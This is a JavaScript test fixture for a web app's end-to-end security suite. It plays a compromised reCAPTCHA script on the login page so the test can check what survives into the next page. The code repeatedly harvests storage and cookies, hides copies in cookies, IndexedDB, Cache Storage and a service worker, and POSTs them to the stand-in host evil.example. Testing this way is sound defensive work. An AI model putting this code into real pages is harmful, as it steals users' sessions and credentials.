// Runs in the page: eslint.config.js gives e2e/ Node's globals, so the browser's are named.
/* global window, document, localStorage, sessionStorage, navigator, indexedDB, caches, Response, setInterval, fetch */
// Appended to the stand-in reCAPTCHA api.js by e2e/prod/third-party-reach.spec.ts: what a
// compromised reCAPTCHA script could try on the login page to outlive it. Over and over while
// the page lives (every 50 ms, and as the page goes after the login), it reads what a script of
// the page can read (storage, cookies) and keeps it wherever the next page could find it:
// localStorage, sessionStorage, a cookie, IndexedDB, Cache Storage, a service worker. It also
// tries to send it away. The test reads what it kept on the patient's page that follows.
//
// It does not hook XMLHttpRequest or fetch, nor dig into the app's memory: on the login page a
// hook would see the password and the login's answer, the bot check's price
// (docs/session-security.md). Nothing here claims to stop that.
(function () {
  'use strict';

  const PREFIX = 'hostile.';

  function entries(storage) {
    const out = {};
    for (let i = 0; i < storage.length; i += 1) {
      const key = storage.key(i);
      if (key.indexOf(PREFIX) !== 0) out[key] = storage.getItem(key);
    }
    return out;
  }

  function loot() {
    return {
      page: window.location.pathname,
      localStorage: entries(localStorage),
      sessionStorage: entries(sessionStorage),
      cookie: document.cookie
        .split('; ')
        .filter(function (pair) {
          return pair.indexOf('hostile_') !== 0;
        })
        .join('; '),
    };
  }

  function note(key, value) {
    try {
      localStorage.setItem(PREFIX + key, value);
    } catch {
      // Storage full or refused: nothing to note it in.
    }
  }

  function keepInDatabase(text) {
    try {
      const opening = indexedDB.open('hostile-db', 1);
      opening.onupgradeneeded = function () {
        opening.result.createObjectStore('loot');
      };
      opening.onsuccess = function () {
        const db = opening.result;
        db.transaction('loot', 'readwrite').objectStore('loot').put(text, 'latest');
        db.close();
      };
    } catch (error) {
      note('indexedDB', 'threw ' + error.name);
    }
  }

  function keepInCache(text) {
    try {
      caches.open('hostile-cache').then(function (cache) {
        return cache.put('/hostile/latest', new Response(text));
      });
    } catch (error) {
      note('caches', 'threw ' + error.name);
    }
  }

  function keep(when) {
    const text = JSON.stringify(loot());
    note('loot.' + when, text);
    try {
      sessionStorage.setItem(PREFIX + 'loot.' + when, text);
    } catch (error) {
      note('sessionStorage', 'threw ' + error.name);
    }
    // A cookie holds 4 KB: the values of storage, as short as a credential is.
    const values = Object.values(loot().localStorage).filter(function (value) {
      return value.length < 512;
    });
    document.cookie =
      'hostile_' + when + '=' + encodeURIComponent(values.join('|')) + '; path=/; max-age=3600';
    keepInDatabase(text);
    keepInCache(text);
  }

  // A service worker would outlive every page: it would see each later call, headers and all.
  if (navigator.serviceWorker) {
    navigator.serviceWorker.register('/hostile-sw.js').then(
      function () {
        note('serviceWorker', 'registered');
      },
      function (error) {
        note('serviceWorker', 'refused ' + error.name);
      },
    );
  }

  fetch('https://evil.example/collect?via=recaptcha', {
    method: 'POST',
    mode: 'no-cors',
    body: JSON.stringify(loot()),
  }).then(
    function () {
      note('send', 'sent');
    },
    function (error) {
      note('send', 'refused ' + error.name);
    },
  );

  keep('load');
  setInterval(function () {
    keep('tick');
  }, 50);
  window.addEventListener('pagehide', function () {
    keep('pagehide');
  });
  window.__hostile = true;
})();
